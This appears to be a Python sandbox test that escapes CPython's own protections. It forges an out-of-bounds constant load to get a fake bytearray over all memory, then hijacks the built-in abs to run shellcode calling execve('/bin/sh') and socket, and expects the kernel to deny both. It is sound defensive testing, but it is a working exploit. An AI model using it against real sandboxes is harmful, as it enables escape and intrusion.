#!python
# The same without ctypes or any other module that trusts its caller. A code object loads a constant from past the end
# of its constants, and finds an object that the program made: a bytearray that spans all memory. With this bytearray
# the program points a built-in function at machine code.
# Wall: the kernel keeps the list of system calls, whoever makes the call; Python's own rules protect nothing
# Expect: done
# Output: ^it runs$
# Output: ^machine code ran: execve: EPERM$
# Output: ^machine code ran: socket: EPERM$
# Denied: execve=1 socket=1
del ctypes, libc, call, raw  # the rest of the program uses none of them
import mmap
import opcode
import struct


def constant_past_the_end():
    return "template"


def object_at(address):
    """The object at an address, or what the interpreter takes for an object there."""
    keep = []
    while True:
        constants, pointer = tuple([object()]), struct.pack("<Q", address) * 2
        keep += [constants, pointer]
        index = (id(pointer) + 32 - (id(constants) + 24)) // 8  # a bytes object's text; a tuple's first item
        if index > 0:
            break
    # Each version of Python has its own numbers.
    load, extended, result = (opcode.opmap[name] for name in ("LOAD_CONST", "EXTENDED_ARG", "RETURN_VALUE"))
    code = bytes([opcode.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([extended, index >> shift & 255])
    code += bytes([load, index & 255, result, 0])
    function = type(constant_past_the_end)(
        constant_past_the_end.__code__.replace(co_code=code, co_consts=constants), {})
    return function()


def word(address):
    return struct.unpack("<Q", memory[address : address + 8])[0]


# A bytearray of 2**63 - 1 bytes that begins at address 0. Its reference count is far from 0, so that it is never freed.
fake = struct.pack("<QQqqQQqq", 1 << 30, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0, 0)
memory = object_at(id(fake) + 32)
text = b"the memory of this process"
if memory[id(text) + 32 : id(text) + 32 + len(text)] != text:
    print("it reads other memory than it should")

page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
address = word(id(page) + 16)
path = b"/bin/sh\0"


def machine_code(number, first):
    # It is called as a built-in function with one argument. rsi is the argument, which it returns. The result of the
    # system call is written to the page.
    return (b"\x56\x48\xb8" + struct.pack("<Q", number) + b"\x48\xbf" + struct.pack("<Q", first)  # push rsi; rax; rdi
            + b"\x31\xf6\x31\xd2\x0f\x05"                                       # esi = edx = 0; syscall
            + b"\x48\xb9" + struct.pack("<Q", address + 2048) + b"\x48\x89\x01"  # the result
            + b"\x58\x48\xff\x00\xc3")                                          # pop rax; ++*rax; ret


method = word(id(abs) + 16)  # its PyMethodDef: name, function, flags
honest = memory[method + 8 : method + 16]
for what, number, first in (("getuid", 102, 0), ("execve", 59, id(path) + 32), ("socket", 41, 2)):
    page[: len(machine_code(number, first))] = machine_code(number, first)
    memory[method + 8 : method + 16] = struct.pack("<Q", address)
    abs(what)
    memory[method + 8 : method + 16] = honest
    result = struct.unpack("<q", page[2048:2056])[0]
    if what == "getuid":
        print("it runs" if result == os.getuid() else "it does not run")
    elif result >= 0:
        print(f"BREACH: {what} gave {result}")
    else:
        print(f"machine code ran: {what}: {errno.errorcode[-result]}")
